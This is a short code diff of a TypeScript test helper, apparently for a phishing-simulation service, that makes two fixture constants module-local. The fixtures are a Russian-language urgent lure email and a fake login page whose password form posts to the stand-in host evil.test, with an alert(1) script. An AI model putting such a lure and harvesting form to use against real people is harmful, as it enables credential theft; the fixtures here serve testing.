@@ -7,8 +7,8 @@ import { trackingToken } from '../src/features/phishing-delivery/links.ts';
 import type { TestOrganization } from './make-organization.ts';
 import { phishingHost, type TestServer } from './start-server.ts';
 
-export const LETTER = '<html><body><p>Здравствуйте, {{first_name}}</p><a href="{{link}}">Открыть срочно</a></body></html>';
-export const PAGE =
+const LETTER = '<html><body><p>Здравствуйте, {{first_name}}</p><a href="{{link}}">Открыть срочно</a></body></html>';
+const PAGE =
   '<html><head><title>x</title></head><body><form action="http://evil.test"><input name="password" type="password"><button>Go</button></form><script>alert(1)</script></body></html>';
 
 /** A template of the organisation with one letter and one page; gives its id. */
